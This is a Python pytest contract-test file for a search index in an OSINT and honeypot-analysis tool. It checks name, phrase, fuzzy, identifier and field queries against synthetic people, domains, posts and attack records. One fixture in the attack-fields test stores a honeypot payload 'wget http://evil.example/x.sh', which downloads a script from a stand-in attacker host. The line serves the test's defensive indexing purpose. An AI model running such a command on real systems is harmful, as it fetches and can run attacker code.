from collections.abc import Iterator

import pytest

from clew.projections.search.fields import DocumentSet, SearchIndex
from clew.projections.search.port import AnyOf, Between, SearchReader, SearchRequest
from tests.contract.search.adapters import Adapter
from tests.contract.search.conftest import ORGANIZATION, entity, fill, found, identifier, ids, names, post

PEOPLE = [
    entity("Alice Example", tags=["red team", "vip"], risk_score=80, confidence=0.9, country="DE"),
    entity("Bob Sample", tags=["Blue"], risk_score=20, confidence=0.4),
    entity("Carol O'Neil-Smith", risk_score=55),
    entity("www.example.org", "domain"),
    entity("example.org", "domain"),
    entity("alice@example.org", "email"),
    entity("https://files.example.net/path/report.pdf?x=1", "url"),
    entity("192.0.2.77", "ip_address"),
    entity("2001:db8::15", "ip_address"),
    entity("xn--bcher-kva.example", "domain"),
    entity("night_owl.1987", "username", username="Night_Owl.1987", platform="mastodon"),
    entity("José Müller"),
    entity("Jose Muller"),
    entity("Straße"),
    entity("Profile of Dora", "social_profile", doc_type="social_profile"),
    post("Alice met Bob near the harbour yesterday", hashtags=["harbour2024"], platform="mastodon"),
    post("Nothing about anybody", location_name="Porto Alegre"),
]


@pytest.fixture(scope="module")
def reader(shared_adapter: Adapter) -> Iterator[SearchReader]:
    view = shared_adapter.view()
    fill(view, {DocumentSet.OSINT_ENTITIES: PEOPLE})
    with view.reader() as opened:
        yield opened


def test_a_word_is_found_in_names_and_texts_names_first(reader: SearchReader) -> None:
    assert found(reader, "alice")[-1] == ""  # the post has no name
    assert set(found(reader, "alice")) == {"Alice Example", "alice@example.org", ""}
    assert found(reader, "ALICE") == found(reader, "alice")


def test_words_are_all_wanted_unless_or_says_otherwise(reader: SearchReader) -> None:
    assert found(reader, "alice harbour") == [""]
    assert set(found(reader, "sample OR carol")) == {"Bob Sample", "Carol O'Neil-Smith"}
    assert set(found(reader, "(sample OR carol) -bob")) == {"Carol O'Neil-Smith"}
    assert found(reader, "alice NOT example") == [""]
    assert len(found(reader, "-alice")) == len(PEOPLE) - 3


def test_words_of_several_fields_may_be_combined(reader: SearchReader) -> None:
    assert found(reader, "alice vip") == ["Alice Example"]
    assert found(reader, "porto nothing") == [""]


def test_a_phrase_wants_the_order(reader: SearchReader) -> None:
    assert found(reader, '"alice example"') == ["Alice Example", "alice@example.org"]  # the whole name comes first
    assert found(reader, '"example alice"') == []
    assert found(reader, '"met bob near"') == [""]


def test_half_a_name_is_enough(reader: SearchReader) -> None:
    assert found(reader, "caro") == ["Carol O'Neil-Smith"]
    assert found(reader, "smi") == ["Carol O'Neil-Smith"]
    assert found(reader, "harb*") == [""]
    assert found(reader, "harb") == []  # in prose only a star asks for it


def test_letters_may_differ_where_that_is_asked_for(reader: SearchReader) -> None:
    assert found(reader, "alcie") == []
    assert "Alice Example" in found(reader, "alcie~")
    assert "Alice Example" in found(reader, "alcie", fuzzy=True)
    assert "Carol O'Neil-Smith" in found(reader, "karel~2")
    assert found(reader, "harbor~") == [""]


def test_parts_of_identifiers_may_differ_too_but_for_short_ones_and_numbers(reader: SearchReader) -> None:
    assert found(reader, "alcie@exmaple.org~") == ["alice@example.org"]
    assert found(reader, "alcie@exmaple.org", fuzzy=True) == ["alice@example.org"]
    assert found(reader, "alcie@exmaple.com~") == []
    assert "Carol O'Neil-Smith" in found(reader, "o'niel-smiht~")
    assert found(reader, "203.0.113.9~") == found(reader, "203.0.113.9")


def test_parts_of_identifiers_are_found(reader: SearchReader) -> None:
    assert found(reader, "example.org")[0] == "example.org"  # the whole comes first
    assert {"www.example.org", "alice@example.org"} < set(found(reader, "example.org"))
    assert found(reader, "files.example.net") == ["https://files.example.net/path/report.pdf?x=1"]
    assert found(reader, "report.pdf") == ["https://files.example.net/path/report.pdf?x=1"]
    assert found(reader, "https://files.example.net/path/report.pdf?x=1") == [
        "https://files.example.net/path/report.pdf?x=1"
    ]
    assert found(reader, "192.0.2.77") == ["192.0.2.77"]
    assert found(reader, "192.0.2") == ["192.0.2.77"]
    assert found(reader, "2001:db8::15") == ["2001:db8::15"]
    assert found(reader, "2001:0DB8:0:0:0:0:0:0015") == ["2001:db8::15"]


def test_internationalised_domains_are_found_by_both_forms(reader: SearchReader) -> None:
    for typed in ("bücher.example", "bucher.example", "xn--bcher-kva.example", "xn--bcher-kva", "BÜCHER"):
        assert found(reader, typed) == ["xn--bcher-kva.example"], typed


def test_user_names_are_found_whole_and_by_parts(reader: SearchReader) -> None:
    for typed in ("night_owl.1987", "NIGHT_OWL.1987", "night", "owl", "1987", "username:owl", "nigh", "night_ow"):
        assert found(reader, typed) == ["night_owl.1987"], typed


def test_accents_do_not_matter_but_the_exact_spelling_comes_first(reader: SearchReader) -> None:
    assert found(reader, "müller") == ["José Müller", "Jose Muller"]
    assert found(reader, "muller") == ["Jose Muller", "José Müller"]
    assert found(reader, "strasse") == found(reader, "straße") == ["Straße"]


def test_a_field_is_asked_by_its_name(reader: SearchReader) -> None:
    assert set(found(reader, "name:alice")) == {"Alice Example", "alice@example.org"}
    assert found(reader, "content:alice") == [""]
    assert found(reader, 'tags:"red team"') == ["Alice Example"]
    assert found(reader, "tags:red") == []  # a tag is one value
    assert found(reader, "tags:BLUE") == found(reader, "tags:blu*") == ["Bob Sample"]
    assert found(reader, "risk_score:80") == ["Alice Example"]
    assert found(reader, "country:de confidence:0.9") == ["Alice Example"]
    assert len(found(reader, "first_seen:2024-03")) == 15
    assert found(reader, "first_seen:2023") == []
    assert found(reader, f"id:{identifier('person:Bob Sample')}") == ["Bob Sample"]
    assert found(reader, identifier("person:Bob Sample")) == ["Bob Sample"]


def test_hashtags_tags_and_places_are_found_without_their_field(reader: SearchReader) -> None:
    assert found(reader, "harbour2024") == [""]
    assert found(reader, "vip") == ["Alice Example"]
    assert found(reader, "alegre") == [""]


def test_the_entities_index_is_the_part_of_the_whole(reader: SearchReader) -> None:
    whole = reader.search(ORGANIZATION, SearchRequest(limit=100))
    part = reader.search(ORGANIZATION, SearchRequest(index=SearchIndex.ENTITIES, limit=100))
    assert whole.total == len(PEOPLE)
    assert set(ids(part)) == {hit.id for hit in whole.hits if hit.document["doc_type"] in ("entity", "social_profile")}
    assert part.total == len(PEOPLE) - 2
    assert found(reader, "harbour", index=SearchIndex.ENTITIES) == []


def test_types_filters_and_ranges_narrow(reader: SearchReader) -> None:
    assert found(reader, "example", entity_types=("email",)) == ["alice@example.org"]
    assert set(found(reader, "example.org", entity_types=("email", "domain"))) == {
        "www.example.org",
        "example.org",
        "alice@example.org",
    }
    assert set(found(reader, "", filters=(AnyOf("tags", ("VIP", "blue")),))) == {"Alice Example", "Bob Sample"}
    kept = found(reader, "", filters=(AnyOf("tags", ("vip",), excluded=True),))
    assert "Alice Example" not in kept
    assert len(kept) == len(PEOPLE) - 1
    assert set(found(reader, "", filters=(Between("risk_score", 50, 80),))) == {"Alice Example", "Carol O'Neil-Smith"}
    assert found(reader, "", filters=(Between("confidence", None, 0.5),)) == ["Bob Sample"]
    assert found(reader, "", filters=(Between("risk_score", 81, 80),)) == []
    assert names(
        reader.search(ORGANIZATION, SearchRequest(filters=(AnyOf("id", (identifier("person:Bob Sample"), "x")),)))
    ) == ["Bob Sample"]


def test_a_hit_is_the_document_as_it_was_put(reader: SearchReader) -> None:
    (hit,) = reader.search(ORGANIZATION, SearchRequest(text="sample")).hits
    assert hit.document == PEOPLE[1]
    assert (hit.id, hit.type, hit.name, hit.index) == (
        PEOPLE[1]["id"],
        "person",
        "Bob Sample",
        SearchIndex.OSINT_ENTITIES,
    )
    assert hit.score > 0


def test_documents_are_got_by_their_ids(reader: SearchReader) -> None:
    wanted = [PEOPLE[0]["id"], PEOPLE[15]["id"], identifier("nobody"), "nonsense"]
    assert reader.get(ORGANIZATION, SearchIndex.OSINT_ENTITIES, wanted) == {
        PEOPLE[0]["id"]: PEOPLE[0],
        PEOPLE[15]["id"]: PEOPLE[15],
    }
    assert set(reader.get(ORGANIZATION, SearchIndex.ENTITIES, wanted)) == {PEOPLE[0]["id"]}
    assert reader.get(ORGANIZATION, SearchIndex.ATTACKS, wanted) == {}


def test_names_are_completed(reader: SearchReader) -> None:
    def suggested(prefix: str, **rest: object) -> list[str]:
        return [each.text for each in reader.suggest(ORGANIZATION, prefix, **rest)]  # type: ignore[arg-type]

    assert set(suggested("ali")) == {"Alice Example", "alice@example.org"}
    assert suggested("alice ex")[0] == "Alice Example"
    assert suggested("bob s") == ["Bob Sample"]
    assert suggested("jose m") == ["Jose Muller", "José Müller"]
    assert suggested("owl") == ["night_owl.1987"]
    assert suggested("exam", entity_types=("email",)) == ["alice@example.org"]
    assert len(suggested("e", limit=2)) == 2
    assert suggested("") == suggested("!!") == suggested("zzz") == []
    assert suggested("a" * 100_000) == []
    (dora,) = reader.suggest(ORGANIZATION, "dora", index=SearchIndex.ENTITIES)
    assert (dora.text, dora.type, dora.id) == ("Profile of Dora", "social_profile", PEOPLE[14]["id"])


def test_attacks_and_documents_have_their_own_fields(adapter: Adapter) -> None:
    attack = {
        "id": identifier("attack"),
        "timestamp": "2024-05-06T07:08:09.123456Z",
        "source_ip": "198.51.100.9",
        "destination_ip": "2001:db8::1",
        "port": 2222,
        "protocol": "ssh",
        "payload": "wget http://evil.example/x.sh",
        "payload_hash": "ab" * 32,
        "honeypot_id": "sensor-7",
        "attack_type": "brute_force",
        "source": "cowrie",
        "client": "SSH-2.0-Go",
        "event_count": 12,
        "login_failures": 11,
        "login_successes": 1,
    }
    document = {
        "id": identifier("document"),
        "collection_id": identifier("c"),
        "document_type": "report",
        "line": 3,
        "content": "The meeting was postponed",
        "file_name": "Minutes 2024.txt",
        "source": "mail",
        "metadata": {"deep": [1, {"x": None}]},
        "created_at": "2024-01-01T00:00:00Z",
    }
    fill(adapter.view(), {DocumentSet.ATTACKS: [attack], DocumentSet.DOCUMENTS: [document]})
    with adapter.view().reader() as reader:

        def total(text: str, index: SearchIndex, **rest: object) -> int:
            return reader.search(ORGANIZATION, SearchRequest(text=text, index=index, **rest)).total  # type: ignore[arg-type]

        for text in (
            "198.51.100.9",
            "wget evil.example",
            "source_ip:198.51.100.0/24",
            "port:2222",
            "SSH-2.0-Go",
            "ab" * 32,
            "brute_force",
            "destination_ip:2001:db8::/64",
            "timestamp:2024-05-06",
        ):
            assert total(text, SearchIndex.ATTACKS) == 1, text
            assert total(text.replace(":", " ").split()[0], SearchIndex.OSINT_ENTITIES) == 0
        for text in ("source_ip:198.51.101.0/24", "port:22", "timestamp:2024-05-07"):
            assert total(text, SearchIndex.ATTACKS) == 0, text
        assert total("", SearchIndex.ATTACKS, entity_types=("brute_force",)) == 1
        assert total("", SearchIndex.ATTACKS, filters=(AnyOf("source_ip", ("198.51.100.9",)),)) == 1
        assert total("", SearchIndex.ATTACKS, filters=(Between("source_ip", "198.51.100.0", "198.51.100.8"),)) == 0
        assert total("", SearchIndex.ATTACKS, filters=(Between("source_ip", "198.51.100.0", "198.51.100.9"),)) == 1
        for text in ("meeting postpone", "minutes", "file_name:2024", "line:3"):
            assert total(text, SearchIndex.DOCUMENTS) == 1, text
        (hit,) = reader.search(ORGANIZATION, SearchRequest(index=SearchIndex.DOCUMENTS)).hits
        assert (hit.document, hit.name, hit.type) == (document, "Minutes 2024.txt", "report")


def test_what_has_no_fitting_field_finds_nothing_of_a_set_never_written(reader: SearchReader) -> None:
    result = reader.search(ORGANIZATION, SearchRequest(text="x", index=SearchIndex.ATTACKS, facets=("port",)))
    assert (result.total, result.hits, result.facets, result.next_cursor) == (0, (), {"port": ()}, None)
